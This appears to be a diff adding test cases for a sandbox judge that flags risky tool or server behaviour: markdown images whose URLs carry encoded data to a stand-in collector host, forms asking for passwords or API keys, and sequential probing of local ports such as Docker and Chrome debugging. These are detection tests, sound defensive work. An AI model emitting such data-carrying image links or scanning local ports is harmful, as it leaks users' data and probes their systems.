@@ -5,7 +5,9 @@ import { JudgeContext, type JudgeOptions } from '../../src/sandbox/judge/context
 import { isOneOf, registrable } from '../../src/sandbox/judge/data.ts';
 import { judgeEvents } from '../../src/sandbox/judge/index.ts';
 import { judgeNames, readTools } from '../../src/sandbox/judge/definitions.ts';
+import { judgeRequest } from '../../src/sandbox/judge/requests.ts';
 import { ResponseJudge } from '../../src/sandbox/judge/responses.ts';
+import type { RpcMessage } from '../../src/sandbox/client/transport.ts';
 import type { BoxDns, BoxEgress, BoxEvent, BoxFile } from '../../src/sandbox/isolation/types.ts';
 import { observedRules as egressRules } from '../../src/checks/network-egress/observed.ts';
 import {
@@ -356,6 +358,13 @@ describe('answers', () => {
     ],
     ['a sentence about a stack', 'Look at the function foo (see a.js) for details', []],
     ['terminal colours', '\u001b[31mred\u001b[0m', ['escape-sequences-in-response']],
+    [
+      'a picture whose address carries data away',
+      'Done. ![ok](https://collect.example/p.png?d=L2hvbWUvZGV2)',
+      ['remote-image-in-response'],
+    ],
+    ['a picture without data', 'Done. ![ok](https://collect.example/p.png)', []],
+    ['a picture of its own service', '![map](https://eu.forecast.example/p.png?x=1234)', []],
     ['a private key', '-----BEGIN OPENSSH PRIVATE KEY-----', ['secret-in-response']],
   ])('%s', (_, text, expected) => {
     expect(look(text)).toEqual(expected);
@@ -379,6 +388,42 @@ describe('answers', () => {
     );
     expect(ctx.observations).toEqual([]);
   });
+});
+
+test.each<[string, object, string[]]>([
+  [
+    'a password',
+    { message: 'Sign in', requestedSchema: { properties: { password: { type: 'string' } } } },
+    ['asks-for-secrets high'],
+  ],
+  [
+    'an API key',
+    { message: 'Set up', requestedSchema: { properties: { apiKey: { type: 'string' } } } },
+    ['asks-for-secrets moderate'],
+  ],
+  [
+    'a branch name',
+    { message: 'Which branch?', requestedSchema: { properties: { branch: { type: 'string' } } } },
+    [],
+  ],
+  ['a password on its own page', { mode: 'url', message: 'Enter your password there' }, []],
+])('a form that asks for %s', (_, params, expected) => {
+  const ctx = context();
+  judgeRequest({ method: 'elicitation/create', params } as RpcMessage, 'idle', ctx);
+  expect(ctx.observations.map(({ ruleId, severity }) => `${ruleId} ${severity}`)).toEqual(expected);
+});
+
+test('one port of this machine after the other is a search, a database or two is none', () => {
+  const tries = (ports: number[], phase: BoxEgress['phase']) =>
+    judged(
+      ports.map((port) =>
+        egress({ isLocal: true, host: 'localhost', ip: '127.0.0.1', port, phase }),
+      ),
+    );
+  const ports = [22, 80, 2375, 5432, 6379, 9222];
+  expect(tries(ports, 'start')).toEqual(['local-port-scan moderate']);
+  expect(tries([5432, 6379, 5432, 6379, 5432, 6379], 'start')).toEqual([]);
+  expect(tries(ports, 'fuzz')).toEqual([]);
 });
 
 test('an echo is taken out whole, cut off and in another case', () => {
